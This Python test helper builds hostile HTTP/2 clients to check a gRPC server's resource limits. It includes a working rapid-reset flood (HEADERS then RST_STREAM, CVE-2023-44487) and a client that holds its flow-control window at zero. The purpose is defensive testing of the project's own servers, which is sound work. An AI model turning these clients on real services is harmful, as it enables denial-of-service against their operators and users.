"""Hostile HTTP/2 clients of the gRPC door, written with the ``h2`` library (what grpcio's own client
cannot be made to do): a connection that never opens its flow-control window, and a rapid-reset
flood (HEADERS followed at once by RST_STREAM, CVE-2023-44487).

Used by ``tests/test_grpc_bounds.py`` against real NameServer processes.
"""

from __future__ import annotations

import contextlib
import socket
import struct
import time
from collections.abc import Iterable

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions
import h2.settings

GRPC_CONTENT_TYPE = "application/grpc"


def grpc_message(payload: bytes) -> bytes:
    """One gRPC length-prefixed message (not compressed)."""
    return b"\x00" + struct.pack(">I", len(payload)) + payload


class H2Client:
    """One HTTP/2 connection speaking just enough gRPC to start calls.

    ``window``: the SETTINGS_INITIAL_WINDOW_SIZE it announces (0 = the server may send no DATA on
    any stream); unless it ``reads``, it never sends WINDOW_UPDATE. :meth:`pump` reads what the server sent (answering
    its SETTINGS and PINGs, as any HTTP/2 peer must) without opening a window.
    """

    def __init__(self, address: str, *, window: int | None = 0, source: str | None = None, reads: bool = False) -> None:
        """``source``: the local IP address to connect from (``127.0.0.2``: another client address on
        loopback, for bounds counted per client address); ``reads``: a client that reads, opening
        the window again for what it received (WINDOW_UPDATE), one pump at a time."""
        self.reads = reads
        host, port = address.rsplit(":", 1)
        self.authority = address
        self.sock = socket.create_connection(
            (host, int(port)), timeout=10, source_address=(source, 0) if source else None
        )
        self.conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
        self.conn.initiate_connection()
        if window is not None:
            self.conn.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: window})
        self.sock.sendall(self.conn.data_to_send())
        self.events: list[h2.events.Event] = []
        self.closed = False
        self.error: Exception | None = None
        """The protocol error that made this client give up (``closed``), if any."""
        self.pump(0.5)

    def headers(self, path: str) -> list[tuple[str, str]]:
        return [
            (":method", "POST"),
            (":scheme", "http"),
            (":path", path),
            (":authority", self.authority),
            ("content-type", GRPC_CONTENT_TYPE),
            ("te", "trailers"),
        ]

    def start_calls(self, path: str, request: bytes, count: int) -> list[int]:
        """Start ``count`` unary calls of ``path`` with ``request`` (serialized); returns their stream
        ids. Reads what the server sent between calls, so its SETTINGS and PINGs are answered."""
        ids = []
        for index in range(count):
            stream_id = self.conn.get_next_available_stream_id()
            self.conn.send_headers(stream_id, self.headers(path))
            self.conn.send_data(stream_id, grpc_message(request), end_stream=True)
            ids.append(stream_id)
            self.flush()
            if index % 50 == 49:
                self.pump(0)
        self.pump(0)
        return ids

    def open_stream(self, path: str, request: bytes | None = None) -> int:
        """Start a streaming call of ``path`` (sending ``request`` as its first message, if any) and
        leave it open; returns its stream id."""
        stream_id = self.conn.get_next_available_stream_id()
        self.conn.send_headers(stream_id, self.headers(path))
        if request is not None:
            self.conn.send_data(stream_id, grpc_message(request))
        self.flush()
        return stream_id

    def ended(self, stream_id: int) -> str | None:
        """The ``grpc-status`` stream ``stream_id`` ended with (``RST`` for a reset without a status),
        or None while it is open."""
        for event in self.events:
            if isinstance(event, (h2.events.TrailersReceived, h2.events.ResponseReceived)) and (
                event.stream_id == stream_id
            ):
                for name, value in event.headers:
                    if name in ("grpc-status", b"grpc-status"):
                        return value.decode() if isinstance(value, bytes) else str(value)
            if isinstance(event, h2.events.StreamReset) and event.stream_id == stream_id:
                return "RST"
        return None

    def rapid_reset(self, path: str, request: bytes, count: int) -> int:
        """``count`` calls each reset right after it was started (HEADERS, DATA, RST_STREAM), sent as
        fast as the socket takes them; stops when the server closes the connection. Returns the
        calls sent."""
        sent = 0
        try:
            for index in range(count):
                stream_id = self.conn.get_next_available_stream_id()
                self.conn.send_headers(stream_id, self.headers(path))
                self.conn.send_data(stream_id, grpc_message(request), end_stream=False)
                self.conn.reset_stream(stream_id, h2.errors.ErrorCodes.CANCEL)
                sent += 1
                if index % 20 == 19:
                    self.flush()
                    self.pump(0)
                    if self.closed:
                        break
            self.flush()
        except (OSError, h2.exceptions.ProtocolError):
            self.closed = True
        return sent

    def flush(self) -> None:
        data = self.conn.data_to_send()
        if data:
            try:
                self.sock.sendall(data)
            except OSError:
                self.closed = True

    def pump(self, seconds: float) -> None:
        """Read for ``seconds`` (0: what is there now); marks :attr:`closed` at end of stream."""
        deadline = time.monotonic() + seconds
        while not self.closed:
            self.sock.settimeout(max(0.0, deadline - time.monotonic()) or 0.001)
            try:
                data = self.sock.recv(1 << 20)
            except (TimeoutError, BlockingIOError):
                return
            except OSError:
                self.closed = True
                return
            if not data:
                self.closed = True
                return
            try:
                events = self.conn.receive_data(data)
                self.events.extend(events)
                if self.reads:
                    for event in events:
                        if isinstance(event, h2.events.DataReceived) and event.flow_controlled_length:
                            self.conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
            except h2.exceptions.ProtocolError as exc:
                self.error = exc
                self.closed = True
                return
            self.flush()
            if time.monotonic() >= deadline:
                return

    def wait_closed(self, seconds: float) -> bool:
        """Read until the server closes the connection or ``seconds`` pass; whether it closed."""
        deadline = time.monotonic() + seconds
        while not self.closed and time.monotonic() < deadline:
            self.pump(min(0.5, max(0.0, deadline - time.monotonic())))
        return self.closed

    def statuses(self) -> list[str]:
        """``grpc-status`` values of the calls that ended so far (trailers-only answers included)."""
        found = []
        for event in self.events:
            if isinstance(event, (h2.events.TrailersReceived, h2.events.ResponseReceived)):
                for name, value in event.headers:
                    if name in ("grpc-status", b"grpc-status"):
                        found.append(value.decode() if isinstance(value, bytes) else str(value))
        return found

    def close(self) -> None:
        with contextlib.suppress(OSError):
            self.sock.close()


def close_all(clients: Iterable[H2Client]) -> None:
    for client in clients:
        client.close()
